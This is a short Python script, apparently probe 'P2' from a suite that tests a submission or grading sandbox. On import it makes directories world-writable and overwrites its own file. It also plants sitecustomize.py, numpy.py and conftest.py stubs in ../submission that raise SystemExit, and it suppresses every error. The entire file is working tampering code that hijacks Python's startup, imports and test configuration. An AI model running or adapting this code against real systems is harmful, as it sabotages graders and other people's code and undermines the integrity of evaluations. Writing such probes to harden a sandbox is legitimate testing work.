# P2: change the handed-in files, and plant modules that the next import would take
def _attack():
    import os

    for name in (__file__, "../submission/sitecustomize.py", "../submission/numpy.py", "../submission/conftest.py"):
        try:
            os.chmod(os.path.dirname(os.path.abspath(name)), 0o777)
        except OSError:
            pass
        try:
            with open(name, "w") as file:
                file.write("raise SystemExit")
        except OSError:
            pass


try:
    _attack()
except BaseException:
    pass
